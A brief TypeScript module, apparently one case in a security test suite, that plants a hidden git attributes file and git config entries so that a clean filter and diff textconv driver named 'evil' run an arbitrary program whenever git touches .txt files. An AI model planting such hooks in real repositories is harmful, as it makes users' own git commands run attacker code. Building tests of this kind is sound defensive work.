import { gitIn, write } from '../repositories.ts'
import type { Trick } from '../trick.ts'

/** The attribute that starts a filter stands in the git folder, where nobody sees it. */
export const trick: Trick = {
  plant({ folder, program }) {
    write(folder, '.git/info/attributes', '*.txt filter=evil diff=evil\n')
    gitIn(folder, 'config', 'filter.evil.clean', program)
    gitIn(folder, 'config', 'diff.evil.textconv', program)
  },
  originalFalls: true,
}
